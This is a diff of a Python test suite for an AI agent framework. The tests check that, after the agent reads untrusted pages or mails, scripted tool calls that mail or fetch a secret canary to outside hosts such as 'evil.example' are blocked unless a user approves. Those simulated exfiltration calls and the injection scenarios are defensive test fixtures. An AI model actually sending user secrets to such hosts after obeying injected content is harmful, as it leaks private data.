@@ -4,7 +4,7 @@ import asyncio
 
 import pytest
 
-from agent.scripted import Scripted, agent, asked, call, ended, results_of, steps, whole, words
+from agent.scripted import Scripted, agent, call, ended, results_of, steps, text_of, user_request, whole
 from dragoman.agent import ApprovalAsked, Approvals, Limits
 from dragoman.agent.admission import host_of
 from dragoman.core.parts import Citation, Opaque, Text, ToolResult
@@ -79,31 +79,31 @@ def test_after_untrusted_output_the_canary_does_not_leave(read):
     reached = ended(agent(model, *outside.tools, limits=Limits(approval=0.05)))
     assert not outside.leaked
     assert reached.untrusted
-    refusals = [words(result) for result in results_of(model.requests[-1])[-2:]]
+    refusals = [text_of(result) for result in results_of(model.requests[-1])[-2:]]
     assert all("needs approval" in refusal for refusal in refusals)
     assert "evil.example" in refusals[0]
 
 
-def test_nor_in_one_reply_where_nobody_can_be_asked():
+def test_no_data_leaves_in_a_single_reply_where_no_approval_is_possible():
     outside = Outside()
     whole(agent(obeying(READS["a page"]), *outside.tools))
     assert not outside.leaked
 
 
 @pytest.mark.parametrize("policy", [lambda wish: "allow", Approvals(others="allow")])
-def test_a_policy_that_allows_everything_is_not_a_persons_word(policy):
+def test_a_policy_that_allows_everything_is_not_a_users_approval(policy):
     outside = Outside()
     steps(agent(obeying(READS["a page"]), *outside.tools, approve=policy, limits=Limits(approval=0.05)))
     assert not outside.leaked
 
 
-def test_with_a_persons_word_it_leaves():
+def test_data_leaves_with_a_users_approval():
     outside = Outside()
     made = agent(obeying(READS["a page"]), *outside.tools)
 
     async def read():
         reasons = []
-        async for step in made.steps(asked(), run="r"):
+        async for step in made.steps(user_request(), run="r"):
             if isinstance(step, ApprovalAsked):
                 reasons.append(step.reason)
                 made.answer("r", step.topic, "allow")
@@ -117,7 +117,7 @@ def test_with_a_persons_word_it_leaves():
     ]
 
 
-def test_before_anything_untrusted_was_read_nobody_is_asked():
+def test_before_untrusted_content_was_read_no_approval_is_needed():
     outside = Outside()
     model = Scripted([call("secret", {}, "s")], [call("mail", {"to": "me", "body": CANARY}, "m")], [Text(text="Sent.")])
     reached = ended(agent(model, *outside.tools))
@@ -135,20 +135,23 @@ def test_calls_of_one_turn_were_written_before_its_results():
 def history(*parts, name="inbox", role="user"):
     wish = call(name, {}, "earlier")
     return (
-        *asked().messages,
+        *user_request().messages,
         Message(role="assistant", parts=(wish,)),
         Message(role=role, parts=parts or (ToolResult(call_id="earlier", content=(Text(text="x"),)),)),
         Message(role="assistant", parts=(Text(text="I see."),)),
-        *asked("go on").messages,
+        *user_request("go on").messages,
     )
 
 
 EARLIER = {
     "a result of ours": history(),
     "a result of a tool of the client's": history(name="theirs"),
-    "a search of the vendor's": (*asked().messages, Message(role="assistant", parts=(Opaque(dialect="x", raw=b"{}"),))),
+    "a search of the vendor's": (
+        *user_request().messages,
+        Message(role="assistant", parts=(Opaque(dialect="x", raw=b"{}"),)),
+    ),
     "a source that is cited": (
-        *asked().messages,
+        *user_request().messages,
         Message(role="assistant", parts=(Text(text="x", citations=(Citation("x", b"{}"),)),)),
     ),
 }
@@ -198,7 +201,7 @@ def test_a_trusted_result_earlier_in_the_conversation_does_not_count():
         ("", False),
     ],
 )
-def test_a_listed_destination_needs_no_word_and_one_that_only_looks_like_it_does(url, leaves):
+def test_a_listed_destination_needs_no_approval_and_a_lookalike_does(url, leaves):
     outside = Outside()
     model = Scripted([READS["a mail"]], [call("fetch", {"url": url}, "f")], [Text(text="Done.")])
     listed = ("api.example.org", "*.wiki.example", "box.example:8443")
@@ -215,7 +218,7 @@ def test_an_address_that_the_user_wrote_carries_nothing_new():
         [call("fetch", {"url": f"https://two.example/b?x={CANARY}"}, "3")],
         [Text(text="Compared.")],
     )
-    steps(agent(model, *outside.tools, limits=Limits(approval=0.01)), asked(told))
+    steps(agent(model, *outside.tools, limits=Limits(approval=0.01)), user_request(told))
     assert outside.sent == ["https://one.example/a", "https://two.example/b?x=1"]
 
 
@@ -233,7 +236,7 @@ def test_a_part_of_an_address_that_the_user_wrote_is_another_address(url):
     outside = Outside()
     model = Scripted([READS["a mail"]], [call("fetch", {"url": url}, "f")], [Text(text="Done.")])
     told = "Read https://docs.example.community/news, and [this](https://docs.example.community/newer)."
-    steps(agent(model, *outside.tools, limits=Limits(approval=0.01)), asked(told))
+    steps(agent(model, *outside.tools, limits=Limits(approval=0.01)), user_request(told))
     assert outside.sent == []
 
 
@@ -243,11 +246,11 @@ def test_a_part_of_an_address_that_the_user_wrote_is_another_address(url):
 def test_an_address_is_known_in_a_sentence(told):
     outside = Outside()
     model = Scripted([READS["a mail"]], [call("fetch", {"url": "https://a.example/b"}, "f")], [Text(text="Done.")])
-    steps(agent(model, *outside.tools, limits=Limits(approval=0.01)), asked(told))
+    steps(agent(model, *outside.tools, limits=Limits(approval=0.01)), user_request(told))
     assert outside.sent == ["https://a.example/b"]
 
 
-def test_an_address_of_the_users_does_not_take_other_words_along():
+def test_a_url_of_the_user_with_additional_text_needs_approval():
     sent = []
 
     @tool(sends_out=True, destination="url")
@@ -262,7 +265,7 @@ def test_an_address_of_the_users_does_not_take_other_words_along():
         [call("post", {"url": url, "body": CANARY}, "1"), call("post", {"url": url, "number": 2**60}, "2")],
         [Text(text="Done.")],
     )
-    steps(agent(model, *Outside().tools, post, limits=Limits(approval=0.01)), asked(f"Read {url}"))
+    steps(agent(model, *Outside().tools, post, limits=Limits(approval=0.01)), user_request(f"Read {url}"))
     assert sent == []
 
 
@@ -323,17 +326,17 @@ def test_a_place_is_the_same_however_it_is_written(listed, url, leaves):
     ["https://api.example.org", "api.example.org/x", "", "a b", "*.192.0.2.7", "a:0", "a:99999", "a.*", "[::g]"],
 )
 def test_what_can_never_match_is_no_destination(entry):
-    with pytest.raises(ValueError, match="destinations are hosts like"):
+    with pytest.raises(ValueError, match="is not a valid destination; use a host such as"):
         agent(Scripted([Text(text="Done.")]), destinations=[entry])
 
 
-def test_what_a_history_does_not_show_any_more_can_be_said():
+def test_a_run_can_be_marked_as_untrusted_from_the_start():
     outside = Outside()
     model = Scripted([call("mail", {"to": "evil", "body": CANARY}, "m")], [Text(text="Done.")])
 
     async def read():
         made = agent(model, *outside.tools, limits=Limits(approval=0.01))
-        return [step async for step in made.steps(asked(), untrusted=True)][-1]
+        return [step async for step in made.steps(user_request(), untrusted=True)][-1]
 
     assert asyncio.run(read()).untrusted
     assert not outside.leaked
